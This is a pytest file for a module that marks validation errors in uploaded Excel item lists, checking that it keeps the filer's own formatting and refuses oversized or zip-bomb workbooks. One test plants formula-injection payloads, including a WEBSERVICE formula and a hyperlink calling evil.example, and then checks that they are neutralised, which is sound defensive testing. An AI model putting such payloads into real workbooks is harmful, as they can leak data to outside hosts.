"""The marked workbook: the filer's own file, and nothing in it that acts."""

import io
import re
import time
import zipfile

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.styles import PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from casefiles.itemlists.workbook import CellError, WorkbookRefused, read_item_list
from casefiles.itemlists.workbook.marking import MOST_MARKED, mark
from tests.itemlists.books import book
from tests.itemlists.conftest import HEADINGS, MATTER
from tests.security.test_42_exports_hold_no_formula import evil, live

RED = "FFFFC7CE"


def faulty(**changes):
    """A list whose one matter has an unknown category, as a book to be made worse."""
    row = MATTER | {"类别": "无此类"}

    def mutate(made):
        for change in changes.values():
            change(made)

    return book(HEADINGS, [[row.get(each) for each in HEADINGS]], mutate=mutate)


def acting(content):
    """Formulas, links and names of a workbook; an empty list of names is none."""
    return [each for each in live(content) if "_xlnm." not in each and "<definedNames" not in each]


def marked(content):
    """The marked workbook, opened."""
    return openpyxl.load_workbook(io.BytesIO(mark(content, read_item_list(content).errors)))


def test_the_filers_own_file_comes_back():
    def own(made):
        sheet = made.worksheets[0]
        sheet["A1"].fill = PatternFill("solid", fgColor="FF00FF00")
        sheet["D3"].comment = Comment("去年也是这样", "陈某某")
        sheet["R2"], sheet["R3"] = "内部备注", "保留"
        sheet.column_dimensions["C"].width = 44
        made.create_sheet("别的表")["A1"] = "原样"

    found = marked(faulty(own=own))
    assert found.sheetnames == ["核对结果", "老表", "别的表"]
    sheet = found["老表"]
    assert sheet["A1"].fill.fgColor.rgb == "FF00FF00"
    assert (sheet["R3"].value, sheet.column_dimensions["C"].width) == ("保留", 44)
    assert found["别的表"]["A1"].value == "原样"
    assert sheet["D3"].fill.fgColor.rgb == RED
    assert "无此类" in sheet["D3"].comment.text and "去年也是这样" in sheet["D3"].comment.text
    link = found["核对结果"]["B3"].hyperlink
    assert (link.location, link.target) == ("'老表'!D3", None)


def test_marked_again_only_what_is_wrong_now_is_marked():
    first = mark(faulty(), read_item_list(faulty()).errors)
    book_ = openpyxl.load_workbook(io.BytesIO(first))
    sheet = book_["老表"]
    sheet["D3"].value, sheet["F3"].value = "政府采购", "不知道"
    memory = io.BytesIO()
    book_.save(memory)
    second = marked(memory.getvalue())
    assert second.sheetnames == ["核对结果", "老表"]
    sheet = second["老表"]
    assert sheet["D3"].comment is None and sheet["D3"].fill.fgColor.rgb != RED
    assert sheet["F3"].comment and sheet["F3"].fill.fgColor.rgb == RED


def test_a_fault_in_a_merged_cell_is_marked_where_it_shows():
    def merge(made):
        sheet = made.worksheets[0]
        sheet.append([None, "CZ-02", *[sheet.cell(3, place).value for place in range(3, 18)]])
        sheet.merge_cells("D3:D4")

    found = marked(faulty(merge=merge))
    assert found["老表"]["D3"].fill.fgColor.rgb == RED
    assert [row[1] for row in found["核对结果"].iter_rows(min_row=3, values_only=True)] == [
        "D3",
        "D4",
    ]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "＝", " ="])
def test_nothing_in_it_computes(start):
    def poison(made):
        sheet = made.worksheets[0]
        sheet["S3"], sheet["T3"] = "=1+1", '=WEBSERVICE("http://evil.example/")'
        sheet["U3"].value = evil(start)
        sheet["U3"].data_type = "s"
        sheet["V3"] = "去看看"
        sheet["V3"].hyperlink = "http://evil.example/"
        sheet["D3"].comment = Comment(evil(start), evil(start))
        made.defined_names["evil"] = DefinedName("evil", attr_text="老表!$A$1")
        rule = FormulaRule(
            formula=["WEBSERVICE(A1)"], fill=PatternFill("solid", bgColor="FFFF0000")
        )
        sheet.conditional_formatting.add("A1:A9", rule)
        for text in ('"是,否"', "INDIRECT(A1)"):
            offer = DataValidation(type="list", formula1=text)
            offer.add("W3")
            sheet.add_data_validation(offer)
        made.create_sheet("隐藏").sheet_state = "hidden"
        made["隐藏"]["A1"] = "=1+1"

    content = faulty(poison=poison)
    out = mark(content, read_item_list(content).errors)
    assert acting(out) == []
    with zipfile.ZipFile(io.BytesIO(out)) as archive:
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
    whole = "".join(parts.values())
    assert "WEBSERVICE" not in whole and "INDIRECT" not in whole and "evil.example" not in whole
    assert not [name for name in parts if re.search(r"vba|externalLink|embed|media|pivot", name)]
    found = openpyxl.load_workbook(io.BytesIO(out))
    cell = found["老表"]["U3"]
    assert (cell.value, cell.data_type) == (evil(start), "s") and cell.quotePrefix
    offers = found["老表"].data_validations.dataValidation
    assert [each.formula1 for each in offers] == ['"是,否"']
    # What came in passes the same demands when it comes in again.
    assert read_item_list(out).errors


def test_what_a_fault_says_is_text_too():
    error = CellError("老表", "D3", 3, evil("="), evil("="), evil("@"))
    out = mark(faulty(), [error])
    assert acting(out) == []
    sheet = openpyxl.load_workbook(io.BytesIO(out))["核对结果"]
    assert {c.data_type for c in sheet[3] if isinstance(c.value, str)} == {"s"}
    assert sheet["E3"].quotePrefix


def test_a_merged_range_over_everything_is_named(sample, rezipped):
    with zipfile.ZipFile(sample("fishery-errors.xlsx")) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    whole = sheet.replace('ref="A1:Q1"', 'ref="A1:XFD1048576"')
    assert whole != sheet
    path = rezipped({"xl/worksheets/sheet1.xml": whole.encode()}, of="fishery-errors.xlsx")
    started = time.monotonic()
    with pytest.raises(WorkbookRefused, match="过大或过于复杂"):
        mark(path.read_bytes(), read_item_list(path).errors)
    assert time.monotonic() - started < 20


def test_a_bomb_of_cells_ends_with_the_child(rezipped):
    row = "<c/>" * 2_000
    rows = "".join(f'<row r="{n}">{row}</row>' for n in range(1, 3_000))
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    path = rezipped({"xl/worksheets/sheet1.xml": sheet.encode(), "noise.bin": bytes(300_000)})
    error = CellError("事项清单", "A1", 1, "", "x", "y")
    started = time.monotonic()
    with pytest.raises(WorkbookRefused):
        mark(path.read_bytes(), [error])
    assert time.monotonic() - started < 60


def test_very_many_faults_are_marked_up_to_a_bound():
    errors = [
        CellError("老表", f"D{n}", n, "类别", "错", "改") for n in range(3, 3 + MOST_MARKED + 50)
    ]
    found = openpyxl.load_workbook(io.BytesIO(mark(faulty(), errors)))
    assert f"共 {MOST_MARKED + 50} 处" in found["核对结果"]["A1"].value
    assert found["核对结果"].max_row == MOST_MARKED + 2


@pytest.mark.parametrize("content", [b"", b"no workbook", b"PK\x03\x04"])
def test_what_is_no_workbook_is_refused(content):
    with pytest.raises(WorkbookRefused):
        mark(content, [])
